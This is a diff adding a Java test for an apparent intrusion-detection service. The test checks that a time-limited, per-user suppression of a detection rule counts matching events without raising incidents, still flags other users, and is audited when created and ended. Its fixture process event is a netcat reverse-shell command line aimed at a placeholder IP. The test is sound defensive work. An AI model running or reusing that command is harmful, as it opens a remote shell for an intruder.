@@ -116,4 +116,62 @@ class DetectionsTest {
                     .contains("T1059.004", "T1562.001", "T1685");
         }
     }
+
+    @Test
+    void whatIsKnownToBeHarmlessIsCountedAndNotTold(Databases databases) throws IOException, InterruptedException {
+        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
+            String token = server.call(
+                            "POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
+                    .json()
+                    .path("token")
+                    .asString();
+            for (String wrong : List.of(
+                    "{\"host\":\"web-1\",\"reason\":\"x\",\"duration\":\"1h\"}",
+                    "{\"rule\":\"a\",\"reason\":\"x\"}",
+                    "{\"rule\":\"a\",\"reason\":\"x\",\"duration\":\"3650d\"}",
+                    "{\"rule\":\"a\",\"duration\":\"1h\"}")) {
+                assertThat(server.call("POST", "/api/v1/suppressions", wrong).status())
+                        .as(wrong)
+                        .isEqualTo(400);
+            }
+            JsonNode made = server.call(
+                            "POST",
+                            "/api/v1/suppressions",
+                            "{\"rule\":\"reverse_shell_netcat\",\"host\":\"web-1\",\"user\":\"alice\",\"reason\":\"an"
+                                    + " exercise\",\"duration\":\"2h\"}")
+                    .json();
+            Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
+            String line = "nc -e /bin/sh 192.0.2.7 4444";
+            send(server, token, "proc", List.of(process("s1", now.minusSeconds(9), "alice", line)));
+            assertThat(server.get("/api/v1/incidents").json().path("items").size())
+                    .isZero();
+            assertThat(server.get("/api/v1/findings").json().path("items").toString())
+                    .doesNotContain("reverse_shell_netcat");
+            JsonNode listed =
+                    server.get("/api/v1/suppressions").json().path("items").get(0);
+            assertThat(listed.path("suppressed").asLong()).isEqualTo(1);
+            assertThat(listed.path("reason").asString()).isEqualTo("an exercise");
+            // Of somebody else it is told.
+            send(server, token, "proc", List.of(process("s2", now.minusSeconds(8), "bob", line)));
+            assertThat(server.get("/api/v1/incidents").json().path("items").size())
+                    .isEqualTo(1);
+            assertThat(server.call(
+                                    "DELETE",
+                                    "/api/v1/suppressions/" + made.path("id").asString(),
+                                    null)
+                            .status())
+                    .isEqualTo(204);
+            assertThat(server.call(
+                                    "DELETE",
+                                    "/api/v1/suppressions/" + made.path("id").asString(),
+                                    null)
+                            .status())
+                    .isEqualTo(404);
+            send(server, token, "proc", List.of(process("s3", now.minusSeconds(7), "alice", line)));
+            JsonNode incidents = server.get("/api/v1/incidents").json().path("items");
+            String id = incidents.get(0).path("id").asString();
+            assertThat(server.get("/api/v1/incidents/" + id).json().toString()).contains("s2", "s3");
+            assertThat(server.get("/api/v1/audit").body()).contains("suppression.create", "suppression.end");
+        }
+    }
 }
